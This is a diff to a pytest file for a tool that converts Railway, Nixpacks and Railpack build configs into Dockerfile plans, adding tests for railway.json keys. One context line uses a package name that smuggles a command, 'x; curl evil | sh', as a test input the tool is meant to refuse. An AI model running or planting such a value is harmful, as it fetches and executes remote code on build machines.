@@ -92,6 +92,40 @@ RAILPACK_KEYS: Mapping[str, tuple[Mapping[str, Any], str]] = {
 }
 
 
+RAILWAY_KEYS: Mapping[str, tuple[Mapping[str, Any], str]] = {
+    "build.buildCommand": ({"build": {"buildCommand": "make all"}}, "make all"),
+    "build.nixpacksPlan": ({"build": {"nixpacksPlan": {"phases": {"setup": {"aptPkgs": ["jq"]}}}}}, " jq "),
+    "build.nixpacksConfigPath": ({"build": {"nixpacksConfigPath": "nowhere.toml"}}, ""),
+    "build.dockerfilePath": ({"build": {"dockerfilePath": "x"}}, ""),
+    "build.watchPatterns": ({"build": {"watchPatterns": ["x"]}}, ""),
+    "deploy.startCommand": ({"deploy": {"startCommand": "serve it"}}, "exec serve it"),
+    "deploy.cronSchedule": ({"deploy": {"cronSchedule": "* * * * *"}}, ""),
+    "deploy.restartPolicyType": ({"deploy": {"restartPolicyType": "NEVER"}}, ""),
+    "unknown": ({"deploy": {"nonsense": 1}}, ""),
+    "environments": ({"environments": {}}, ""),
+}
+
+
+@pytest.mark.parametrize("key", RAILWAY_KEYS)
+def test_every_key_of_railway_has_a_say_or_an_answer(tmp_path: Path, key: str) -> None:
+    table, expected = RAILWAY_KEYS[key]
+
+    found = planned(tmp_path, {**PYTHON, "railway.json": json.dumps(table)})
+
+    assert expected in found.dockerfile
+    assert expected or "not-honoured" in warned(found)
+
+
+def test_railway_says_health_release_and_instances_and_wins_over_a_procfile(tmp_path: Path) -> None:
+    deploy = {"preDeployCommand": ["one", "two"], "healthcheckPath": "/up", "numReplicas": 3, "startCommand": "run"}
+    files = {**PROCFILE, "railway.toml": "", "railway.json": json.dumps({"deploy": deploy})}
+
+    found = planned(tmp_path, files)
+
+    assert (found.release_command, found.health_path, found.start_command) == ("one && two", "/up", "run")
+    assert found.formation["web"] == {"instances": 3}
+
+
 @pytest.mark.parametrize("key", NIXPACKS_KEYS)
 def test_every_key_of_nixpacks_has_a_say_or_an_answer(tmp_path: Path, key: str) -> None:
     table, expected = NIXPACKS_KEYS[key]
@@ -198,7 +232,9 @@ def test_a_package_that_is_none_is_refused(tmp_path: Path) -> None:
         nixpacks(tmp_path, {"phases": {"setup": {"aptPkgs": ["x; curl evil | sh"]}}})
 
 
-@pytest.mark.parametrize("file", ["nixpacks.json", "nixpacks.toml", "railpack.json", "app.json", "project.toml"])
+@pytest.mark.parametrize(
+    "file", ["nixpacks.json", "nixpacks.toml", "railpack.json", "app.json", "project.toml", "railway.toml"]
+)
 @pytest.mark.parametrize("text", ["{", "[1, 2", "\x00", "]]", "{" * 5000])
 def test_a_broken_file_is_named(tmp_path: Path, file: str, text: str) -> None:
     with pytest.raises(PlanFailed, match=file):
